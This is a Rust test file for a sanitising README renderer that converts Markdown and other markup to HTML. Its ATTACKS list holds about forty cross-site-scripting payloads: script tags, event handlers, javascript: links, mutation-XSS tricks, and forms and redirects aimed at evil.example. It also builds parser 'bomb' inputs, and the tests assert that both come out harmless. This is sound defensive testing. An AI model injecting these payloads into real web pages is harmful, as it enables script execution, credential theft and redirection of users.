use super::fuzzing::assert_harmless;
use super::*;

fn at(repository: &str, branch: Option<&str>, path: &str) -> Location {
    Location {
        repository: repository.to_owned(),
        branch: branch.map(str::to_owned),
        path: path.to_owned(),
    }
}

fn here() -> Location {
    at(
        "https://github.com/minvws/example",
        Some("main"),
        "docs/README.md",
    )
}

fn html(markdown: &str) -> String {
    Rendered::new(markdown, &here()).html
}

#[test]
fn markdown_becomes_html_below_the_pages_own_headings() {
    assert_eq!(
        html("# Title\n\n## Part\n\n<h1 align=\"center\">Raw</h1>\n\n##### Deep\n"),
        "<h3>Title</h3>\n<h4>Part</h4>\n<h3>Raw</h3>\n<h4>Deep</h4>\n"
    );
}

#[test]
fn links_lead_to_the_forge() {
    let cases = [
        ("[a](https://example.org/x)", "https://example.org/x"),
        (
            "[a](guide.md)",
            "https://github.com/minvws/example/blob/main/docs/guide.md",
        ),
        (
            "[a](../LICENSE)",
            "https://github.com/minvws/example/blob/main/LICENSE",
        ),
        (
            "[a](/src/main.rs)",
            "https://github.com/minvws/example/blob/main/src/main.rs",
        ),
        (
            "[a](#install)",
            "https://github.com/minvws/example/blob/main/docs/README.md#install",
        ),
        ("[a](//example.org/x)", "https://example.org/x"),
        ("[a](mailto:a@example.org)", "mailto:a@example.org"),
    ];
    for (markdown, expected) in cases {
        let html = html(markdown);
        assert!(html.contains(&format!("href=\"{expected}\"")), "{html}");
        assert!(
            html.contains("rel=\"nofollow noopener noreferrer\""),
            "{html}"
        );
    }
    let gitlab = at("https://gitlab.com/group/sub/name", None, "README.md");
    let html = Rendered::new("[a](x.md)", &gitlab).html;
    assert!(
        html.contains("https://gitlab.com/group/sub/name/-/blob/HEAD/x.md"),
        "{html}"
    );
}

#[test]
fn images_become_links_with_their_alternative_texts() {
    let rel = "rel=\"nofollow noopener noreferrer\"";
    let at_forge = "https://github.com/minvws/example/blob/main/docs";
    let link = |href: &str, text: &str| format!("<a href=\"{href}\" {rel}>{text}</a>");
    let cases = [
        (
            "![A *chart*](https://example.org/x.png)",
            format!("<p>{}</p>\n", link("https://example.org/x.png", "A chart")),
        ),
        (
            "a <img src=x alt='1 < 2 & \"b\"' onerror=alert(1)> b <img src='y.png?z=1'> c <img> d",
            format!(
                "<p>a {} b {} c  d</p>\n",
                link(&format!("{at_forge}/x"), "1 &lt; 2 &amp; \"b\""),
                link(&format!("{at_forge}/y.png?z=1"), "y.png"),
            ),
        ),
        (
            "[![A chart](x.png)](https://example.org/)",
            format!("<p>{}</p>\n", link("https://example.org/", "A chart")),
        ),
    ];
    for (markdown, expected) in cases {
        assert_eq!(html(markdown), expected);
    }
}

#[test]
fn badges_are_left_out_with_what_is_empty_without() {
    let badge = "[![build](https://img.shields.io/badge/build-ok.svg)](https://ci.example/)";
    let cases = [
        (format!("{badge} {badge}\n\nText\n"), "<p>Text</p>\n"),
        (format!("- {badge}\n- {badge}\n\nText\n"), "<p>Text</p>\n"),
        (
            format!(
                "<p align=center><a href=x><img src='{0}'></a></p>\n\nText\n",
                "https://codecov.io/x"
            ),
            "<p>Text</p>\n",
        ),
        (format!("# {badge}\n## Part\n"), "<h3>Part</h3>\n"),
    ];
    for (markdown, expected) in cases {
        assert_eq!(html(&markdown).trim_start(), expected, "{markdown}");
    }
}

#[test]
fn a_title_that_repeats_the_name_is_left_out() {
    assert_eq!(html("# Example\n\n## Part\n"), "\n<h3>Part</h3>\n");
    let other = "<h3>Example app</h3>\n<p>Example</p>\n<h3>Example</h3>\n";
    assert_eq!(html("# Example app\n\nExample\n\n# Example\n"), other);
}

#[test]
fn every_column_of_a_table_has_a_name() {
    let html = html("| | A |\n|---|---|\n| b | |\n");
    assert!(
        html.contains("<th>–</th>") && html.contains("<td></td>"),
        "{html}"
    );
}

#[test]
fn a_long_text_is_folded_between_blocks() {
    let short = Rendered::new(&"word ".repeat(99), &here());
    assert!(short.rest().is_empty());
    let paragraph = "Words of a text. ".repeat(20);
    let long = Rendered::new(&format!("{paragraph}\n\n## Part\n\n").repeat(9), &here());
    assert!(
        long.start().trim_end().ends_with("</p>"),
        "{}",
        long.start()
    );
    assert!(
        long.rest().trim_start().starts_with("<h3>Part</h3>"),
        "{}",
        long.rest()
    );
    // One block is never cut.
    let list = Rendered::new(&"- item of a list\n".repeat(200), &here());
    assert!(list.rest().is_empty());
    let list = format!("{paragraph}\n\n{}", "- item of a list\n".repeat(200));
    assert!(
        Rendered::new(&list, &here()).rest().starts_with("\n<ul>")
            || Rendered::new(&list, &here()).rest().starts_with("<ul>")
    );
}

#[test]
fn a_text_tells_its_language() {
    let cases = [
        (
            "Met deze software behandelt een gemeente de meldingen van haar inwoners.",
            Some("nl"),
        ),
        (
            "This software lets a municipality handle the reports of its residents.",
            Some("en"),
        ),
        ("x", None),
        (
            "```\nthis is code and not a text that anybody reads\n```",
            None,
        ),
    ];
    for (text, language) in cases {
        assert_eq!(Rendered::new(text, &here()).language, language, "{text}");
    }
}

#[test]
fn plain_text_readme_is_shown_as_is() {
    let plain = Location {
        path: "README.txt".to_owned(),
        ..here()
    };
    let rendered = Rendered::new("Title\n=====\n<script>x</script> *a*", &plain);
    assert!(!rendered.is_refused);
    assert_eq!(
        rendered.html,
        "<pre>Title\n=====\n&lt;script&gt;x&lt;/script&gt; *a*</pre>"
    );
}

/// What attackers write, each in a form that some sanitiser let through once.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "![\"><script>alert(1)</script>](x)",
    "<img alt=\"><script>alert(1)</script>\">",
    "<img alt='\"><script>alert(1)</script>'>",
    "<img alt=\"<h1 onclick=alert(1)>\">",
    "<img title=\"<script>alert(1)</script>\" alt=x>",
    "<img lang='\"><script>alert(1)</script>' alt='\"><svg onload=alert(1)>' title=y>",
    "<p title='\"><img src=x onerror=alert(1)>' lang=\"<h1>\">x</p>",
    "<a title=\"<h1>\" href=x>y</a>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style=\"background:url(https://evil.example)\" class=bw-header id=content>x</p>",
    "<nav><main><header><footer><aside>landmarks</aside></footer></header></main></nav>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<video src=https://evil.example autoplay></video><audio src=x></audio>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<picture><source srcset=https://evil.example/x.png><img src=y alt=z></picture>",
    "<details open ontoggle=alert(1)>x</details>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!-- --><script>alert(1)</script> -->",
    "<x onclick=alert(1)>y</x>",
];

#[test]
fn attacks_come_out_harmless() {
    for attack in ATTACKS {
        assert_harmless(attack, &here());
        let around = format!("# A\n\n> - text {attack} more\n\n| a |\n|---|\n| {attack} |\n");
        assert_harmless(&around, &here());
    }
}

/// READMEs of real repositories, where they stand beside this checkout.
#[test]
fn real_readmes_come_out_harmless() {
    const TEXTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus/texts");
    let Ok(files) = std::fs::read_dir(TEXTS) else {
        eprintln!("skipped: there are no texts of real repositories at {TEXTS}");
        return;
    };
    for file in files {
        let text = std::fs::read_to_string(file.unwrap().path()).unwrap();
        let texts: serde_json::Value = serde_json::from_str(&text).unwrap();
        if let Some(readme) = texts["readme"].as_str() {
            assert_harmless(readme, &here());
        }
    }
}

proptest::proptest! {
    #[test]
    fn any_mixture_of_attacks_comes_out_harmless(
        parts in proptest::collection::vec(
            (proptest::sample::select(ATTACKS), "[<>\"'&/a-h1-6 =\\n#\\[\\]()!`-]{0,12}"),
            0..5,
        ),
    ) {
        let source: String = parts
            .into_iter()
            .flat_map(|(attack, noise)| [noise, attack.to_owned()])
            .collect();
        assert_harmless(&source, &here());
    }
}

/// Texts of some length that cost a parser of Markdown or HTML much more than
/// their length: each is one construct over and over.
fn bombs(bytes: usize) -> Vec<String> {
    let over = |text: &str| text.repeat(bytes / text.len());
    let both = |open: &str, close: &str| {
        let times = bytes / (open.len() + close.len());
        open.repeat(times) + "a" + close.repeat(times).as_str()
    };
    let numbered = |from: &str, to: &str| {
        let each = |number| format!("{from}{number}{to}");
        (0..bytes / (from.len() + to.len() + 5))
            .map(each)
            .collect::<String>()
    };
    let half = bytes / 2;
    vec![
        over("> "),
        over(">"),
        over(">>>> a\n\n"),
        over("1. ")[..half].to_owned() + "\n".repeat(half).as_str(),
        (0..bytes)
            .map(|at| "  ".repeat(at) + "- a\n")
            .scan(0, |length, line| {
                *length += line.len();
                (*length < bytes).then_some(line)
            })
            .collect(),
        both("*a ", " a*"),
        both("[a", "](b)"),
        both("**", "**"),
        both("<div>", "</div>"),
        both("<b><i>", "</i></b>"),
        over("<ul><li>"),
        over("<details>"),
        over("<h1>"),
        over("<b><p>"),
        over("<div><table></div></table>"),
        over("<table><b>x"),
        over("<table><tr><td>"),
        over("<a href=x><div>"),
        over("<svg><math>"),
        over("<http://a"),
        over("www.a"),
        over("`a "),
        over("[a]: <"),
        over("<!--"),
        over("<![CDATA["),
        over("<a b='"),
        over("&amp"),
        over("![[]("),
        over("[a]: b\n") + over("[a]").as_str(),
        numbered("[a", "]: b\n\n") + numbered("[a", "]").as_str(),
        over("[^a]"),
        numbered("[^", "]: b\n"),
        over("*_"),
        over("a*_~"),
        over("~~a "),
        over("[a]["),
        over("["),
        over("]"),
        over("![a](<b"),
        over("[a](b 'c"),
        over("\\"),
        over("&#"),
        over("a\n=\n"),
        over("a  \n"),
        over("\t- "),
        over("<a\n"),
        over("<?"),
        over("<!A "),
        over("</a "),
        over("a@b.c "),
        over("|"),
        over("|-"),
        over("~~~\n"),
        "`".repeat(half) + "a`".repeat(half / 2).as_str(),
        (1..200)
            .map(|run| "`".repeat(run) + "a")
            .collect::<String>()
            .repeat(bytes / 20_000 + 1),
        over("a\u{301}\u{301}\u{301}\u{301}"),
        over("\u{202e}\u{2066}"),
        over("\0"),
        numbered("<b title=", "><p>x"),
        format!("<a {}>", numbered(" a", "")),
        format!(
            "{0}\n{1}\n{2}",
            "|a".repeat(half / 8),
            "|-".repeat(half / 8),
            "a\n".repeat(half / 4)
        ),
    ]
}

/// Each is rendered within bounds or shown as it is; what would not be ever ends
/// here.
#[test]
fn a_readme_of_one_construct_over_and_over_is_bounded() {
    for bomb in bombs(16 * 1024) {
        let start = bomb.chars().take(20).collect::<String>();
        let rendered = Rendered::new(&bomb, &here());
        assert!(rendered.html.len() < 8 * bounds::MOST_HTML_BYTES, "{start}");
        if rendered.is_refused {
            assert!(rendered.html.starts_with("<pre>"), "{start}");
        }
    }
}

#[test]
fn costly_readme_is_shown_as_plain_text() {
    for bomb in [
        "> ".repeat(5_000),
        "<ul><li>".repeat(5_000),
        "<http://a".repeat(9_000),
        "&#".repeat(25_000),
    ] {
        let rendered = Rendered::new(&bomb, &here());
        assert!(rendered.is_refused && !rendered.is_cut);
        assert_eq!(rendered, Rendered::refused(&bomb));
        assert!(!rendered.html.contains(&bomb[..2]) && rendered.html.contains("&"));
    }
    let long = Rendered::new(&"word ".repeat(100_000), &here());
    assert!(long.is_cut && !long.is_refused);
    assert!(long.html.starts_with("<p>word"));
}

#[test]
fn a_readme_is_rendered_by_the_markup_of_its_name() {
    let cases = [
        (
            "README.md",
            "---\nlayout: home\n---\n# Titel\n\nTekst\n",
            ["<h3>Titel</h3>", "<p>Tekst</p>"],
            "layout",
        ),
        // A rule and not front matter: nothing of it is lost.
        (
            "README.md",
            "---\n\nEerst de uitleg.\n\n---\n\nMeer hieronder.\n",
            ["<p>Eerst de uitleg.</p>", "<p>Meer hieronder.</p>"],
            "<pre>",
        ),
        (
            "README.rst",
            "Titel\n=====\n\nInstalleren\n~~~~~~~~~~~\n\nEerst dit::\n\n    make\n",
            ["<h3>Titel</h3>", "<h4>Installeren</h4>"],
            "~~~",
        ),
        (
            "docs/README.adoc",
            "= Titel\n\n== Installeren\n\nTekst\n",
            ["<h3>Titel</h3>", "<h4>Installeren</h4>"],
            "==",
        ),
        (
            "README.org",
            "* Titel\n** Installeren\nTekst\n",
            ["<h3>Titel</h3>", "<h4>Installeren</h4>"],
            "**",
        ),
    ];
    for (path, text, there, absent) in cases {
        let location = at("https://github.com/proefgemeente/app", None, path);
        let html = Rendered::new(text, &location).html;
        for part in there {
            assert!(html.contains(part), "{path}: {part} in {html}");
        }
        assert!(!html.contains(absent), "{path}: {absent} in {html}");
    }
}
